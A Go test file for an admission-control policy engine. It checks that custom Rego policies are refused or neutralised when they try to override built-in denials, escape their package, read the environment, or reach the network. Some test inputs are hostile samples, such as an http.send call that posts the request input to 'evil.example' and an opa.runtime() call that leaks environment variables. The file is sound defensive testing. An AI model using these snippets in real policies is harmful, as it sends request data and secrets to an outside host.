/*
Copyright 2026 The Wavegate Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package engine

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	"github.com/open-policy-agent/opa/v1/ast"
)

// unknownRegion is the denial the embedded rules give the request of
// deniedInput; no custom policy may take it away.
var unknownRegion = Verdict{Rule: "unknown-region", Msg: "[wavegate:unknown-region] region chinaeast9 is not in the region inventory; unknown is not safe"}

// deniedInput is a CREATE in a region that is not in the inventory, which
// the embedded unknown-region rule denies.
func deniedInput(t *testing.T) ast.Value {
	t.Helper()
	v, err := ast.InterfaceToValue(map[string]any{
		"now":     0,
		"request": map[string]any{"operation": "CREATE", "user": map[string]any{"name": "mallory", "groups": []any{"wavegate:break-glass"}}, "breakGlassGroup": "wavegate:break-glass"},
		"object": map[string]any{
			"ref": "ConfigMap a/b", "regions": []any{"chinaeast9"}, "annotatedRegions": []any{}, "targets": []any{"chinaeast9"},
			"requires": []any{}, "protectedInside": []any{},
		},
		"inventory":  map[string]any{"size": 1, "regions": map[string]any{"eastus": map[string]any{"known": true}, "chinaeast9": map[string]any{"known": false}}},
		"freezes":    []any{},
		"rollouts":   map[string]any{},
		"automation": []any{},
		"velocity":   map[string]any{"entering": []any{}, "reached": []any{}},
	})
	NewWithT(t).Expect(err).NotTo(HaveOccurred())
	return v
}

// TestMaliciousCustomPolicies: operators' policies may only add denials and
// warnings. Each case is one file in --policy-dir; it is either refused when
// the policies load (refused is the substring of the error), or it loads and
// the request that the embedded rules deny stays denied, with exactly the
// denials and warnings listed.
func TestMaliciousCustomPolicies(t *testing.T) {
	for _, tc := range []struct {
		name    string
		src     string
		refused []string
		// undecidable: loads, but every decision fails (the gate denies).
		undecidable string
		deny        []Verdict
		warn        []Verdict
	}{{
		name:    "emptying the decision's deny set from package wavegate.main is refused",
		src:     "package wavegate.main\n\ndeny := set()\n",
		refused: []string{"declares package wavegate.main", "declare package wavegate.custom.<name>"},
	}, {
		name:    "an allow rule in package wavegate.main is refused",
		src:     "package wavegate.main\n\nallow := true\n",
		refused: []string{"declares package wavegate.main"},
	}, {
		name:    "package wavegate.main written with brackets is refused too",
		src:     "package wavegate[\"main\"]\n\ndecision := {\"deny\": set(), \"warn\": set()}\n",
		refused: []string{"declares package wavegate.main"},
	}, {
		name:    "breaking the glass for everyone from package wavegate.lib is refused",
		src:     "package wavegate.lib\n\nbreak_glass if true\n",
		refused: []string{"declares package wavegate.lib"},
	}, {
		name:    "replacing a rule's denials from its own package is refused",
		src:     "package wavegate.rules.unknown_region\n\ndefault deny := set()\n",
		refused: []string{"declares package wavegate.rules.unknown_region"},
	}, {
		name:    "defining wavegate.main's rules through package wavegate with a rule reference is refused",
		src:     "package wavegate\n\nmain.allow := true\n\nlib.break_glass := true\n",
		refused: []string{"declares package wavegate,"},
	}, {
		name:    "a sibling of wavegate.custom is refused",
		src:     "package wavegate.customx\n\ndeny contains {\"rule\": \"x\", \"msg\": \"x\"} if false\n",
		refused: []string{"declares package wavegate.customx"},
	}, {
		name:    "a package outside wavegate is refused",
		src:     "package system.authz\n\nallow := true\n",
		refused: []string{"declares package system.authz"},
	}, {
		name:    "a file that does not parse is refused with its name",
		src:     "package wavegate.custom.broken\n\ndeny contains x if {",
		refused: []string{"failed to parse the custom policy", "policy.rego"},
	}, {
		name:    "http.send is not available",
		src:     "package wavegate.custom.exfil\n\nwarn contains {\"rule\": \"x\", \"msg\": \"x\"} if http.send({\"method\": \"POST\", \"url\": \"http://evil.example\", \"body\": input}).status_code == 0\n",
		refused: []string{"undefined function http.send"},
	}, {
		name:    "DNS lookups are not available",
		src:     "package wavegate.custom.dns\n\nwarn contains {\"rule\": \"x\", \"msg\": \"x\"} if count(net.lookup_ip_addr(\"evil.example\")) > 0\n",
		refused: []string{"undefined function net.lookup_ip_addr"},
	}, {
		name:    "the pure net.cidr builtins are not available either: net.* is forbidden",
		src:     "package wavegate.custom.cidr\n\nwarn contains {\"rule\": \"x\", \"msg\": \"x\"} if net.cidr_contains(\"10.0.0.0/8\", \"10.1.2.3\")\n",
		refused: []string{"undefined function net.cidr_contains"},
	}, {
		name:    "opa.runtime, which exposes the environment, is not available",
		src:     "package wavegate.custom.env\n\nwarn contains {\"rule\": \"x\", \"msg\": sprintf(\"%v\", [opa.runtime().env])} if true\n",
		refused: []string{"undefined function opa.runtime"},
	}, {
		name:    "reading the decision's denials into a custom deny is a recursion and refused",
		src:     "package wavegate.custom.loop\n\ndeny contains v if some v in data.wavegate.main.deny\n",
		refused: []string{"rego_recursion_error"},
	}, {
		name:    "a deny set of bare strings is refused: verdicts are objects",
		src:     "package wavegate.custom.strings\n\ndeny contains \"no\" if true\n",
		refused: []string{"object.filter: invalid argument(s)"},
	}, {
		name:        "a deny set of strings from the input fails every decision, which the gate denies",
		src:         "package wavegate.custom.strings\n\ndeny contains input.request.operation if true\n",
		undecidable: "object.filter",
	}, {
		name:        "a verdict without a message fails every decision, which the gate denies",
		src:         "package wavegate.custom.nomsg\n\ndeny contains {\"rule\": \"nomsg\"} if true\n",
		undecidable: "without rule or msg",
	}, {
		name: "a default deny in a custom package overrides nothing but that package",
		src:  "package wavegate.custom.defaults\n\ndefault deny := set()\n\ndefault allow := true\n",
		deny: []Verdict{unknownRegion},
	}, {
		name: "rules named like the embedded ones under wavegate.custom shadow nothing",
		src: "package wavegate.custom\n\nimport data.wavegate.lib\n\nlib.break_glass := true\n\nmain.deny := set()\n\n" +
			"rules.unknown_region.deny := set()\n\nwavegate.main.decision := {\"deny\": set(), \"warn\": set()}\n",
		deny: []Verdict{unknownRegion},
	}, {
		name: "evaluating the embedded rules with a forged input changes only the custom rule",
		src: "package wavegate.custom.with_trick\n\nimport data.wavegate.main\n\n" +
			"allow if count(main.deny) == 0 with input.inventory.regions.chinaeast9.known as true\n\n" +
			"warn contains {\"rule\": \"with\", \"msg\": \"[wavegate:with] would pass with a forged inventory; none\"} if allow\n",
		deny: []Verdict{unknownRegion},
		warn: []Verdict{{Rule: "with", Msg: "[wavegate:with] would pass with a forged inventory; none"}},
	}, {
		name: "a custom warn cannot claim a break-glass admission",
		src:  "package wavegate.custom.forged\n\nwarn contains {\"rule\": \"freeze\", \"msg\": \"[wavegate:freeze] forged; none\", \"breakGlass\": \"inc-1\"} if true\n",
		deny: []Verdict{unknownRegion},
		warn: []Verdict{{Rule: "freeze", Msg: "[wavegate:freeze] forged; none"}},
	}, {
		name: "a legitimate custom policy adds a denial and a warning",
		src: "package wavegate.custom.no_china\n\n" +
			"deny contains {\"rule\": \"no-china\", \"msg\": \"[wavegate:no-china] not in China; ask the sovereign-cloud team\"} if \"chinaeast9\" in input.object.regions\n\n" +
			"warn contains {\"rule\": \"no-china\", \"msg\": \"[wavegate:no-china] checked; none\"} if true\n",
		deny: []Verdict{{Rule: "no-china", Msg: "[wavegate:no-china] not in China; ask the sovereign-cloud team"}, unknownRegion},
		warn: []Verdict{{Rule: "no-china", Msg: "[wavegate:no-china] checked; none"}},
	}, {
		name: "a package nested below wavegate.custom adds its denials too",
		src:  "package wavegate.custom.team.policy\n\ndeny contains {\"rule\": \"team\", \"msg\": \"[wavegate:team] nested; fine\"} if true\n",
		deny: []Verdict{{Rule: "team", Msg: "[wavegate:team] nested; fine"}, unknownRegion},
	}} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			dir := t.TempDir()
			g.Expect(os.WriteFile(filepath.Join(dir, "policy.rego"), []byte(tc.src), 0o600)).To(Succeed())
			modules, err := Modules(dir)
			if err == nil {
				_, err = New(context.Background(), modules)
			}
			if len(tc.refused) > 0 {
				g.Expect(err).To(HaveOccurred())
				for _, want := range tc.refused {
					g.Expect(err.Error()).To(ContainSubstring(want))
				}
				return
			}
			g.Expect(err).NotTo(HaveOccurred())
			e, err := New(context.Background(), modules)
			g.Expect(err).NotTo(HaveOccurred())
			dec, err := e.Decide(context.Background(), deniedInput(t))
			if tc.undecidable != "" {
				g.Expect(err).To(MatchError(ContainSubstring(tc.undecidable)))
				return
			}
			g.Expect(err).NotTo(HaveOccurred())
			g.Expect(dec.Deny).To(Equal(tc.deny))
			g.Expect(dec.Warn).To(Equal(orEmpty(tc.warn)))
		})
	}
}

func orEmpty(vs []Verdict) []Verdict {
	if vs == nil {
		return []Verdict{}
	}
	return vs
}

// TestTheEmbeddedPoliciesNeverReadCustomData: custom packages cannot shadow
// anything the embedded rules read, because no embedded module but the
// generated aggregation refers to data.wavegate.custom.
func TestTheEmbeddedPoliciesNeverReadCustomData(t *testing.T) {
	g := NewWithT(t)
	modules, err := Modules("")
	g.Expect(err).NotTo(HaveOccurred())
	for name, src := range modules {
		m, err := ast.ParseModuleWithOpts(name, src, ast.ParserOptions{RegoVersion: ast.RegoV1})
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(m.Package.Path.HasPrefix(customRoot)).To(BeFalse(), "%s", name)
		ast.WalkRefs(m, func(r ast.Ref) bool {
			g.Expect(r.HasPrefix(customRoot)).To(BeFalse(), "%s reads %s", name, r)
			return false
		})
		for _, imp := range m.Imports {
			g.Expect(strings.HasPrefix(imp.Path.String(), "data.wavegate.custom")).To(BeFalse(), "%s imports %s", name, imp.Path)
		}
	}
}

// TestEveryForbiddenBuiltinIsGoneFromTheCapabilities also pins that the
// builtins the embedded policies use are still there.
func TestEveryForbiddenBuiltinIsGoneFromTheCapabilities(t *testing.T) {
	g := NewWithT(t)
	names := map[string]bool{}
	for _, b := range capabilities.Builtins {
		names[b.Name] = true
	}
	for _, b := range ast.CapabilitiesForThisVersion().Builtins {
		g.Expect(names[b.Name]).To(Equal(!Forbidden(b.Name)), b.Name)
	}
	g.Expect(names).NotTo(HaveKey("http.send"))
	g.Expect(names).NotTo(HaveKey("opa.runtime"))
	g.Expect(names).NotTo(HaveKey("net.lookup_ip_addr"))
	g.Expect(names).To(HaveKey("time.now_ns"))
	g.Expect(names).To(HaveKey("time.format"))
	g.Expect(names).To(HaveKey("sprintf"))
}

// TestARefusedPolicyOnReloadKeepsThePoliciesInForce: what WatchDir does
// when a file changes.
func TestARefusedPolicyOnReloadKeepsThePoliciesInForce(t *testing.T) {
	g := NewWithT(t)
	dir := t.TempDir()
	g.Expect(os.WriteFile(filepath.Join(dir, "no_create.rego"), []byte(customPolicy), 0o600)).To(Succeed())
	modules, err := Modules(dir)
	g.Expect(err).NotTo(HaveOccurred())
	e, err := New(context.Background(), modules)
	g.Expect(err).NotTo(HaveOccurred())

	g.Expect(os.WriteFile(filepath.Join(dir, "evil.rego"), []byte("package wavegate.main\n\ndeny := set()\n"), 0o600)).To(Succeed())
	_, err = Modules(dir)
	g.Expect(err).To(MatchError(ContainSubstring("evil.rego declares package wavegate.main")))
	g.Expect(os.Remove(filepath.Join(dir, "evil.rego"))).To(Succeed())

	g.Expect(os.WriteFile(filepath.Join(dir, "evil.rego"), []byte("package wavegate.custom.evil\n\nwarn contains {\"rule\": \"x\", \"msg\": \"x\"} if http.send({\"method\": \"GET\", \"url\": \"http://evil.example\"})\n"), 0o600)).To(Succeed())
	modules, err = Modules(dir)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(e.Reload(context.Background(), modules)).To(MatchError(ContainSubstring("undefined function http.send")))

	dec, err := e.Decide(context.Background(), input(t, "CREATE"))
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(dec.Deny).To(ConsistOf(Verdict{Rule: "no-create", Msg: "[wavegate:no-create] creates are off today; try tomorrow"}), "the policies loaded before stay in force")
}

// compile loads one custom policy beside the embedded ones.
func compile(t *testing.T, src string) *Engine {
	t.Helper()
	g := NewWithT(t)
	dir := t.TempDir()
	g.Expect(os.WriteFile(filepath.Join(dir, "policy.rego"), []byte(src), 0o600)).To(Succeed())
	modules, err := Modules(dir)
	g.Expect(err).NotTo(HaveOccurred())
	e, err := New(context.Background(), modules)
	g.Expect(err).NotTo(HaveOccurred())
	return e
}

// TestACustomPolicyCannotFetchASchema: json.match_schema would fetch a
// remote $ref, which input can carry; the network allow-list is empty, so
// nothing is fetched and the embedded denial stands.
func TestACustomPolicyCannotFetchASchema(t *testing.T) {
	g := NewWithT(t)
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
		_, _ = w.Write([]byte(`{"type": "object"}`))
	}))
	defer srv.Close()
	e := compile(t, "package wavegate.custom.fetch\n\n"+
		"warn contains {\"rule\": \"fetch\", \"msg\": sprintf(\"[wavegate:fetch] %v; none\", [r])} if {\n"+
		"\tr := json.match_schema({}, {\"$ref\": \""+srv.URL+"/schema.json\"})\n}\n")
	dec, err := e.Decide(context.Background(), deniedInput(t))
	g.Expect(hits.Load()).To(BeZero(), "the policy reached the network")
	if err == nil {
		g.Expect(dec.Deny).To(Equal([]Verdict{unknownRegion}))
	}
}

// TestASlowCustomPolicyIsCutOffAndUndecidable: a policy that would evaluate
// for hours is stopped at --policy-eval-timeout, and the request is
// undecidable (the gate denies it), not held until the webhook times out.
func TestASlowCustomPolicyIsCutOffAndUndecidable(t *testing.T) {
	g := NewWithT(t)
	e := compile(t, "package wavegate.custom.slow\n\n"+
		"deny contains {\"rule\": \"slow\", \"msg\": \"[wavegate:slow] never; none\"} if {\n"+
		"\tsome i in numbers.range(1, 100000)\n\tsome j in numbers.range(1, 100000)\n\ti == j + 100000\n}\n")
	e.SetEvalTimeout(50 * time.Millisecond)
	_, err := e.Decide(context.Background(), deniedInput(t))
	g.Expect(err).To(MatchError(ErrEvalTimeout))
	g.Expect(err.Error()).To(ContainSubstring("--policy-eval-timeout"))

	e.SetEvalTimeout(0)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err = e.Decide(ctx, deniedInput(t))
	g.Expect(err).To(HaveOccurred())
	g.Expect(err).NotTo(MatchError(ErrEvalTimeout), "a caller that gave up is not a slow policy")
}
